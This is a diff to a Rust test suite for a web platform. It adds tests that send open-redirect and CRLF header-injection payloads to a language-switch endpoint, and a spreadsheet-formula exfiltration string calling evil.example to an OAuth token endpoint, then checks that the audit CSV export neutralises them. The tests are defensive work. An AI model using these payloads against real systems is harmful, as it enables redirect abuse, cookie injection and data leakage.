@@ -5,7 +5,7 @@
 mod support;
 
 use platform::db::col;
-use support::{Backend, Browser, TestApp, email, today};
+use support::{Backend, Browser, TestApp, email, staff_browser, today};
 
 async fn count(app: &TestApp, table: &str) -> i64 {
     let mut tx = app.state.db.read().await.unwrap();
@@ -249,9 +249,15 @@ async fn expired_and_reused_links_are_refused(backend: Backend) {
     testkit::mail::wait_for(&app.mail_dir(), &address, 2).await;
     let fresh = app.latest_link(&address, "/verify/").await;
     assert_ne!(fresh, link);
-    assert_eq!(b.submit(&fresh, &fresh, &[]).await.status, 200);
     assert_eq!(
         b.submit(&fresh, &fresh, &[]).await.status,
+        422,
+        "a link mailed again is not the sign-up's: the password is asked"
+    );
+    let password = [("password", support::PASSWORD)];
+    assert_eq!(b.submit(&fresh, &fresh, &password).await.status, 200);
+    assert_eq!(
+        b.submit(&fresh, &fresh, &password).await.status,
         410,
         "a link works once"
     );
@@ -497,7 +503,101 @@ async fn unknown_pages_and_oversized_forms(backend: Backend) {
     app.stop().await;
 }
 
+async fn language_switch_returns_only_to_pages_of_this_site(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let b = app.browser();
+    for (next, expected) in [
+        ("/%09/evil.example", "/"),
+        ("/%0d%0a/evil.example", "/"),
+        ("/dashboard%0d%0aSet-Cookie:%20lang=ja", "/"),
+        ("%0d%0a", "/"),
+        ("/%0a", "/"),
+        ("//evil.example", "/"),
+        ("/%5Cevil.example", "/"),
+        ("https://evil.example/", "/"),
+        ("/%EF%BC%8Fevil.example", "/"),
+        ("/.//evil.example", "/"),
+        ("%2Fassets%3Fx%3D1%23y", "/assets?x=1#y"),
+    ] {
+        let page = b.get(&format!("/lang/en?next={next}")).await;
+        assert!(
+            (300..400).contains(&page.status),
+            "{next}: a redirect, never an error: {}",
+            page.status
+        );
+        assert_eq!(page.location.as_deref(), Some(expected), "{next}");
+    }
+    app.stop().await;
+}
+
+async fn client_ids_typed_at_the_token_endpoint_never_reach_the_audit_export(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+    let long = "A".repeat(4096);
+    let http = reqwest::Client::new();
+    for client_id in [formula, long.as_str()] {
+        let response = http
+            .post(format!("{}/oauth2/token", app.base))
+            .form(&[
+                ("grant_type", "client_credentials"),
+                ("client_id", client_id),
+                ("client_secret", "guess"),
+            ])
+            .send()
+            .await
+            .unwrap();
+        assert!(response.status().is_client_error(), "{}", response.status());
+    }
+    let actors: Vec<String> = {
+        let mut tx = app.state.db.read().await.unwrap();
+        sqlx::query(
+            "SELECT actor FROM audit_log WHERE action LIKE 'oidc.token_refused.%' ORDER BY seq",
+        )
+        .fetch_all(&mut *tx)
+        .await
+        .unwrap()
+        .iter()
+        .map(|r| col::<String>(r, "actor").unwrap())
+        .collect()
+    };
+    assert_eq!(actors.len(), 2, "both refusals are audited: {actors:?}");
+    for actor in &actors {
+        let digest = actor
+            .strip_prefix("client:unverified:")
+            .unwrap_or_else(|| panic!("recorded by digest: {actor}"));
+        assert!(
+            digest.len() == 12 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
+            "{actor}"
+        );
+    }
+    assert_ne!(actors[0], actors[1], "different values, different digests");
+
+    let (admin, _) = staff_browser(&app, "ops.admin", "admin").await;
+    let (status, _, bytes) = admin
+        .get_bytes("/ops/audit/export?action=oidc.token_refused.*")
+        .await;
+    assert_eq!(status, 200);
+    let text = String::from_utf8(bytes).unwrap();
+    let rows: Vec<&str> = text.lines().skip(1).filter(|l| !l.is_empty()).collect();
+    assert_eq!(rows.len(), 2, "{text}");
+    for row in &rows {
+        for cell in row.split(',') {
+            assert!(
+                !cell
+                    .trim_start_matches(['"', ' '])
+                    .starts_with(['=', '+', '-', '@', '\u{FF1D}']),
+                "no cell a spreadsheet would run: {cell}"
+            );
+            assert!(cell.len() < 128, "no oversized value: {} bytes", cell.len());
+        }
+    }
+    assert!(!text.contains("HYPERLINK") && !text.contains(&long[..128]));
+    app.stop().await;
+}
+
 on_both_backends!(
+    language_switch_returns_only_to_pages_of_this_site,
+    client_ids_typed_at_the_token_endpoint_never_reach_the_audit_export,
     signup_refuses_bad_fields,
     duplicate_signup_reveals_nothing_and_changes_nothing,
     wrong_passwords_and_unknown_addresses_get_the_same_answer,
